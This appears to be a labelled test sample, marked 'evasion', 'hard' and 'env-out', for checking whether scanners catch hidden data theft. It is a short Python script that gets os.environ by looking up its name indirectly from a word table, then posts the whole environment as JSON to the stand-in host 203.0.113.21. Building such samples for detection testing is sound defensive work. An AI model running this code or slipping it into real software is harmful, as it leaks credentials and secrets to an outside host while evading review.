# evasion: the environment is fetched from os by a name picked by index from a word table, then posted
# grade: hard; does: env-out
import json
import os
import urllib.request

NAMES = ["getcwd", "environ", "sep"]
data = dict(getattr(os, NAMES[1]))
urllib.request.urlopen("http://203.0.113.21/up", data=json.dumps(data).encode())
